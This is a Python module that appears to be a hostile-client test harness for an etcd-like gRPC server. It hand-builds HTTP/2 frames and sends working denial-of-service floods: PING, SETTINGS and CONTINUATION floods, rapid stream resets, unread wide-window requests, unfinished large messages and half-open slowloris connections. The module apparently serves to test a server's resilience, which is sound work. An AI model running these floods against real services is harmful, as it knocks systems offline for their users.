"""Callers over HTTP/2 that break it, or ask for more than they take: frames by hand, over plain sockets."""

from __future__ import annotations

import contextlib
import functools
import itertools
import socket
import time
from collections.abc import Callable, Iterator
from typing import Protocol

import hpack

from rsm_spark.map.etcd import etcd_pb2 as pb
from tests.hostile.victim import Work

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END = 0x1
_WHOLE = 0x4
_FOR_S = 1.0


class Flood(Protocol):
    """Attack on an address, with somebody's token, until it is over."""

    def __call__(self, address: str, work: Work, token: str) -> None:
        """Do it once."""
        ...


def _frame(kind: int, flags: int, stream: int, text: bytes = b"") -> bytes:
    return len(text).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + text


def _head(encoder: hpack.Encoder, token: str, method: str = "Range") -> bytes:
    return bytes(
        encoder.encode([
            (":method", "POST"), (":scheme", "http"), (":path", f"/etcdserverpb.KV/{method}"), (":authority", "it"),
            ("content-type", "application/grpc"), ("te", "trailers"), ("token", token),
        ])
    )  # fmt: skip


@contextlib.contextmanager
def _connection(address: str, settings: bytes = b"") -> Iterator[socket.socket]:
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=5) as found:
        found.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, settings))
        yield found


def _flood(frames: Callable[[int], bytes], settings: bytes = b"") -> Flood:
    """Send frames without end, and read nothing, until it is cut or a second is over."""

    def attack(address: str, work: Work, token: str = "") -> None:  # noqa: ARG001 - a stranger has none
        with contextlib.suppress(OSError), _connection(address, settings) as found:
            until_s = time.monotonic() + _FOR_S
            for n in itertools.count():
                if time.monotonic() > until_s:
                    break
                found.sendall(frames(n))
        work.add()

    return attack


def _resets(address: str, work: Work, token: str) -> None:
    """Begin calls and leave them at once."""
    encoder = hpack.Encoder()
    request = pb.RangeRequest(key=b"own/", range_end=b"own0").SerializeToString()
    text = b"\0" + len(request).to_bytes(4, "big") + request
    with contextlib.suppress(OSError), _connection(address) as found:
        until_s = time.monotonic() + _FOR_S
        for n in itertools.count():
            if time.monotonic() > until_s:
                break
            stream = 2 * n + 1
            found.sendall(
                _frame(_HEADERS, _WHOLE, stream, _head(encoder, token)) + _frame(_DATA, _END, stream, text)
                + _frame(_RESET, 0, stream, bytes(4))
            )  # fmt: skip
            if n % 100 == 0:
                work.add()
    work.add()


def _unread(address: str, work: Work, token: str, method: str = "Range") -> None:
    """Ask for as much as goes, with windows that are wide open, and read nothing of it."""
    encoder = hpack.Encoder()
    request = pb.RangeRequest(key=b"own/", range_end=b"own0").SerializeToString()
    text = b"\0" + len(request).to_bytes(4, "big") + request
    wide = b"\0\4\x7f\xff\xff\xff"
    with contextlib.suppress(OSError), _connection(address, wide) as found:
        found.sendall(_frame(_WINDOW, 0, 0, (2**31 - 1 - 65_535).to_bytes(4, "big")))
        for n in range(100):
            stream = 2 * n + 1
            head = _head(encoder, token, method)
            found.sendall(_frame(_HEADERS, _WHOLE, stream, head) + _frame(_DATA, _END, stream, text))
            work.add()
        time.sleep(_FOR_S)
    work.add()


def _beginnings(address: str, work: Work, token: str) -> None:
    """Begin large messages on many calls, and end none of them."""
    encoder = hpack.Encoder()
    with contextlib.suppress(OSError), _connection(address) as found:
        for n in range(250):
            stream = 2 * n + 1
            begun = b"\0" + (4_000_000).to_bytes(4, "big") + b"x" * 16_000
            found.sendall(_frame(_HEADERS, _WHOLE, stream, _head(encoder, token)) + _frame(_DATA, 0, stream, begun))
            work.add()
        time.sleep(_FOR_S)
    work.add()


def _strangers(address: str, work: Work, token: str) -> None:  # noqa: ARG001 - a stranger has none
    """Connect, say half a word, and stay."""
    host, _, port = address.rpartition(":")
    with contextlib.ExitStack() as stack, contextlib.suppress(OSError):
        for _ in range(100):
            found = stack.enter_context(socket.create_connection((host, int(port)), timeout=5))
            found.sendall(_PREFACE[:7])
            work.add()
        time.sleep(_FOR_S)
    work.add()


FLOODS: dict[str, Flood] = {
    "pings": _flood(lambda _: _frame(_PING, 0, 0, bytes(8)) * 500),
    "settings": _flood(lambda n: _frame(_SETTINGS, 0, 0, b"\0\4" + (n % 2**16).to_bytes(4, "big")) * 500),
    "continuations": _flood(lambda n: _frame(_HEADERS, 0, 1, b"\x82") if not n else _frame(_CONTINUATION, 0, 1) * 500),
    "resets": _resets,
    "unread": _unread,
    "unread streams": functools.partial(_unread, method="RangeStream"),
    "beginnings": _beginnings,
    "strangers": _strangers,
}
"""By name: what is done to an address until it is over, with somebody's token."""
